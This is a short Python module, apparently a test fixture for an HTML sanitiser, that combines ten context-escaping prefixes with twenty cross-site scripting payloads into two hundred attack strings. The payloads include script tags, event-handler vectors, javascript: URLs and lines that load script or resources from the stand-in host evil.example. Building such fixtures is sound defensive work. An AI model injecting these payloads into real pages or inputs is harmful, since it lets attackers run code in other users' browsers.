"""What someone might write in a document or an address to have it run in a reader's browser."""

from __future__ import annotations

UDBRUD = (
    "",
    '">',
    "'>",
    '" x="',
    "</title>",
    "</textarea></style></script>",
    "</mark></pre></blockquote>",
    "-->",
    "]]>",
    "&quot;&gt;",
)
"""What ends the place that a text stands in."""
ANGREB = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG/SRC=`x`\tOnError\n=alert`1`>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href='java&#9;script:alert(1)'>her</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<math href=javascript:alert(1)>her</math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style=animation-name:x onanimationstart=alert(1) accesskey=x onclick=alert(1)>",
)
ALLE = tuple(u + a for u in UDBRUD for a in ANGREB)
"""Two hundred."""
